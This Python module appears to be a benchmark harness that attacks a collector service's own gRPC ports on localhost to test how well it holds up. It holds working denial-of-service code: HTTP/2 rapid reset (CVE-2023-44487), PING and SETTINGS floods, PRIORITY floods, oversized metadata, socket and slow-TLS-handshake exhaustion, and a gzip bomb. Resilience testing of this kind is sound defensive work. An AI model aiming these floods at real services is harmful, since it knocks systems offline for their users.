"""What somebody who means harm does to the collector's doors: `python -m bench.attacks NAME TARGET SECONDS`.

Run in a process of its own. Each attack goes on for its time, whatever the other side does, and tells what it did.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from bench import http2
from bench.http2 import Connection

IDLE_SOCKETS = 5_000
SLOW_HANDSHAKES = 1_000
BOMB_BYTES = 64 << 20
OVERSIZED_BYTES = 16 << 20
FRAMES_AT_ONCE = 200
MANY_FRAMES = 30_000


@dataclass(frozen=True, slots=True)
class Target:
    """What the attacker knows: the ports, the CA's certificate, and an agent's certificate with its key."""

    ingest: int
    enrolment: int
    ca_file: str
    agent_file: str
    hello_file: str
    """A serialised DeliverRequest that begins a stream of that agent."""

    def agent(self) -> ssl.SSLContext:
        return http2.client_context(Path(self.ca_file), Path(self.agent_file))

    def nobody(self) -> ssl.SSLContext:
        return http2.client_context(Path(self.ca_file), None)


class _Until:
    """Counts what was done until the time is up."""

    def __init__(self, seconds: float) -> None:
        self._ends = time.monotonic() + seconds
        self.done: Counter[str] = Counter()

    def more(self) -> bool:
        return time.monotonic() < self._ends

    def rest(self) -> None:
        time.sleep(max(0.0, self._ends - time.monotonic()))


def _frames(
    until: _Until, port: int, context: ssl.SSLContext, what: Callable[[Connection, int], int]
) -> None:
    """Send frames as fast as they are taken, over a new connection whenever the old one is cut."""
    while until.more():
        try:
            with Connection(port, context) as connection:
                until.done["connections"] += 1
                stream = 1
                while until.more():
                    stream = what(connection, stream)
                    until.done["frames"] += FRAMES_AT_ONCE
                    connection.drain()
        except OSError:
            until.done["cut"] += 1


def _resets(path: str) -> Callable[[Connection, int], int]:
    def send(connection: Connection, stream: int) -> int:
        streams = range(stream, stream + FRAMES_AT_ONCE, 2)
        connection.send(b"".join(http2.request(one, path) + http2.reset(one) for one in streams))
        return stream + FRAMES_AT_ONCE

    return send


def rapid_reset(target: Target, until: _Until) -> None:
    """Streams opened and reset at once (CVE-2023-44487), by an enrolled agent."""
    _frames(until, target.ingest, target.agent(), _resets(http2.DELIVER))


def rapid_reset_enrolment(target: Target, until: _Until) -> None:
    """The same at the enrolment door, where nobody shows a certificate."""
    _frames(until, target.enrolment, target.nobody(), _resets(http2.ENROL))


def _repeated(frame: bytes) -> Callable[[Connection, int], int]:
    def send(connection: Connection, stream: int) -> int:
        connection.send(frame * FRAMES_AT_ONCE)
        return stream

    return send


def pings(target: Target, until: _Until) -> None:
    """PING frames (CVE-2019-9512)."""
    _frames(until, target.ingest, target.agent(), _repeated(http2.ping()))


def settings(target: Target, until: _Until) -> None:
    """SETTINGS frames (CVE-2019-9515)."""
    _frames(until, target.ingest, target.agent(), _repeated(http2.settings([(4, 65_535)])))


def priorities_enrolment(target: Target, until: _Until) -> None:
    """PRIORITY frames without a pause, by nobody in particular who acknowledges the SETTINGS: gRPC's read buffer grows with
    what comes in without its ever finding the socket empty."""

    def send(connection: Connection, stream: int) -> int:
        if stream == 1:
            connection.acknowledge()
        connection.send(http2.priority(1) * MANY_FRAMES)
        until.done["frames"] += MANY_FRAMES - FRAMES_AT_ONCE
        return stream + 2

    _frames(until, target.enrolment, target.nobody(), send)


def giant_metadata(target: Target, until: _Until) -> None:
    """400 KiB of metadata in each call, on connections that never acknowledge the collector's SETTINGS."""
    fields = [(f"x-{number}", "a" * 4_000) for number in range(100)]

    def send(connection: Connection, stream: int) -> int:
        connection.send(http2.request(stream, http2.DELIVER, fields))
        return stream + 2

    _frames(until, target.ingest, target.agent(), send)


def _sockets(until: _Until, port: int, count: int, first: bytes) -> list[socket.socket]:
    made = []
    for _ in range(count):
        try:
            one = socket.create_connection(("127.0.0.1", port), timeout=5)
            one.sendall(first)
        except OSError:
            until.done["refused"] += 1
            continue
        made.append(one)
        until.done["connections"] += 1
    return made


def idle_sockets(target: Target, until: _Until) -> None:
    """Connections on which nothing is ever said."""
    made = _sockets(until, target.ingest, IDLE_SOCKETS, b"")
    until.rest()
    for one in made:
        one.close()


def slow_handshakes(target: Target, until: _Until) -> None:
    """TLS handshakes at a byte a second; each that is cut off is begun anew."""
    hello = _client_hello(target.agent())
    made = _sockets(until, target.ingest, SLOW_HANDSHAKES, hello[:16])
    sent = 16
    while until.more():
        time.sleep(1)
        kept = []
        for one in made:
            try:
                one.sendall(hello[sent : sent + 1])
                kept.append(one)
            except OSError:
                until.done["cut"] += 1
                one.close()
        made = kept + _sockets(until, target.ingest, SLOW_HANDSHAKES - len(kept), hello[:16])
        sent = min(sent + 1, len(hello) - 2)
    for one in made:
        one.close()


def _client_hello(context: ssl.SSLContext) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    return outgoing.read()


def too_many_connections(target: Target, until: _Until) -> None:
    """300 connections of an enrolled agent, each of them in good order and silent."""
    context = target.agent()
    made: list[Connection] = []
    while until.more():
        for _ in range(300 - len(made)):
            try:
                made.append(Connection(target.ingest, context, 2.0))
                until.done["connections"] += 1
            except OSError:
                until.done["refused"] += 1
        time.sleep(0.5)
        cut = [one for one in made if one.closed_within(0.0)]
        until.done["cut"] += len(cut)
        made = [one for one in made if one not in cut]
    for one in made:
        one.close()


def _streams(target: Target, until: _Until, data: bytes, encoding: str) -> None:
    """One message over and over, each on a stream of its own."""
    hello = Path(target.hello_file).read_bytes()
    while not until.done or until.more():
        try:
            with Connection(target.ingest, target.agent()) as connection:
                connection.acknowledge()
                head = http2.request(1, http2.DELIVER, [("grpc-encoding", encoding)])
                connection.send(head + http2.message(1, hello))
                connection.send_paced(1, data)
                until.done["messages"] += 1
                connection.closed_within(0.2)
        except OSError:
            until.done["cut"] += 1


def gzip_bomb(target: Target, until: _Until) -> None:
    """A message of 64 KiB that unpacks to sixteen times the bound."""
    bomb = gzip.compress(bytes(BOMB_BYTES), 9)
    _streams(target, until, b"\1" + len(bomb).to_bytes(4, "big") + bomb, "gzip")


def oversized_message(target: Target, until: _Until) -> None:
    """Messages of four times the bound."""
    data = b"\0" + OVERSIZED_BYTES.to_bytes(4, "big") + bytes(OVERSIZED_BYTES)
    _streams(target, until, data, "identity")


def nothing(_target: Target, until: _Until) -> None:
    """No attack, but as much of the CPU as an attacker's own process takes: what it costs others to share a machine with it."""
    while until.more():
        until.done["turns"] += sum(range(1_000)) > 0


ATTACKS: dict[str, Callable[[Target, _Until], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        rapid_reset_enrolment,
        pings,
        settings,
        priorities_enrolment,
        giant_metadata,
        idle_sockets,
        slow_handshakes,
        too_many_connections,
        gzip_bomb,
        oversized_message,
    )
}


def run(name: str, target: Target, seconds: float) -> Counter[str]:
    """Attack for so long, or do `nothing`; what was done."""
    until = _Until(seconds)
    (nothing if name == nothing.__name__ else ATTACKS[name])(target, until)
    return until.done


if __name__ == "__main__":
    # As if it were another machine: not by its own use of the CPU is it to hurt.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    print(json.dumps(run(sys.argv[1], Target(**json.loads(sys.argv[2])), float(sys.argv[3]))))
